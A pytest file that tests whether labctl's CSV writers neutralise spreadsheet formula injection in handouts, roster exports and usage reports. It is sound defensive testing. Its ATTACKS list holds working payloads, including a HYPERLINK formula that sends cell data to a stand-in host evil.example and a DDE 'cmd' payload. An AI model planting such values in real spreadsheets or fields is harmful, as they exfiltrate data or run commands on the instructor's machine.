"""Every CSV labctl writes opens in a spreadsheet as data: the attack is a participant (or a caller whose path lands
in the logs) who puts a formula where a name goes, and the instructor who opens the export in Excel."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from labctl.classroom.enroll import export_csv
from labctl.classroom.handout import ClassInfo, Student
from labctl.classroom.handout_render import csv_text
from labctl.classroom.log_names import log_deployment_name
from labctl.spreadsheet import FORMULA_TRIGGERS, formula_safe_dict_writer, formula_safe_writer, neutralise
from stacks.config.sections import ParticipantSettings
from tests.support.class_settings import class_settings

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",  # a leading tab hides the formula from a quick look
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_trigger_is_neutralised(attack):
    assert neutralise(attack) == "'" + attack
    assert attack[0] in FORMULA_TRIGGERS


@pytest.mark.parametrize(
    "harmless", ["Ana García", "student01", "ana@x.edu", "", "'=already text", "1-2", "chat"]
)
def test_ordinary_text_and_numbers_are_left_alone(harmless):
    assert neutralise(harmless) == harmless
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_the_writers_neutralise_every_string_cell():
    buffer = io.StringIO()
    writer = formula_safe_writer(buffer)
    writer.writerows([ATTACKS, ["ok", 3, -1.5]])
    rows = _cells(buffer.getvalue())
    assert rows[0] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert rows[1] == ["ok", "3", "-1.5"]  # numbers written by labctl stay numbers
    buffer = io.StringIO()
    dict_writer = formula_safe_dict_writer(buffer, ["a", "b"])
    dict_writer.writeheader()
    dict_writer.writerow({"a": "=1+1", "b": 7})
    assert _cells(buffer.getvalue())[1] == ["'=1+1", "7"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_handout_csv(attack):
    info = ClassInfo(
        gateway="https://gw.example",
        api_version="2025-04-01-preview",
        chat=("chat",),
        embeddings=(),
        ends_on=None,
    )
    student = Student(name="student01", email=attack, display_name=attack, key="k" * 40)
    (header, row) = _cells(csv_text(info, [student]))
    for column in ("name", "email"):
        value = row[header.index(column)]
        assert value.startswith("'") and not value[1:].startswith("'"), (column, value)
    assert row[header.index("key")] == "k" * 40


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_roster_export(attack):
    # The config refuses such an e-mail; the writer defuses it anyway (model_construct skips the config's checks).
    person = ParticipantSettings.model_construct(name="x", email=attack, display_name=attack, state="active")
    (header, row) = _cells(export_csv([person]))
    # A lone CR would end the row for a reader: it is written as a line break inside the quoted cell.
    expected = "'" + attack.replace("\r", "\n")
    assert row[header.index("name")] == expected
    assert row[header.index("email")] == expected


@pytest.mark.parametrize(
    ("logged", "shown"),
    [
        ("chat", "chat"),
        ("gpt-4.1_mini-ft.2", "gpt-4.1_mini-ft.2"),
        ("=1+1", "(other)"),
        ("chat\n", "(other)"),  # fullmatch: a trailing newline is not part of a name
        ("../../x", "(other)"),
        ("[red]x[/red]", "(other)"),
        ("a" * 65, "(other)"),
        ("", "(unknown)"),
        (None, "(unknown)"),
    ],
)
def test_deployment_names_from_logs_keep_their_real_character_set(logged, shown):
    assert log_deployment_name(logged) == shown


def test_the_usage_csv_never_carries_a_deployment_a_caller_made_up(fake_azure, fake_credential):
    from labctl.azure.transport import shared_tls_transport
    from labctl.classroom.usage import build_report, run_usage_query
    from labctl.classroom.usage_render import render_csv
    from stacks.facts.prices import load_prices
    from tests.support.fake_log_analytics import Call, FakeLogAnalytics

    now = dt.datetime.now(dt.UTC).replace(microsecond=0)
    logs = FakeLogAnalytics(server=fake_azure.server).install()
    # A student calls /openai/deployments/=HYPERLINK(...)/chat/completions: a 404, but the path is logged.
    logs.add_calls(
        [Call((now - dt.timedelta(hours=1)).replace(tzinfo=None), "ana", ATTACKS[0], "", status=404)]
    )
    with shared_tls_transport() as transport:
        answer = run_usage_query(
            logs.workspace,
            now - dt.timedelta(hours=24),
            now,
            credential=fake_credential,
            endpoint=fake_azure.base_url,
            deadline_s=20,
            transport=transport,
        )
    settings = class_settings([{"name": "ana", "email": "ana@x.edu"}])
    report = build_report(answer, settings, load_prices(), now - dt.timedelta(hours=24), now)
    text = render_csv(report)
    assert "HYPERLINK" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["participant"], r["deployment"]) for r in rows] == [("ana", "(other)")]
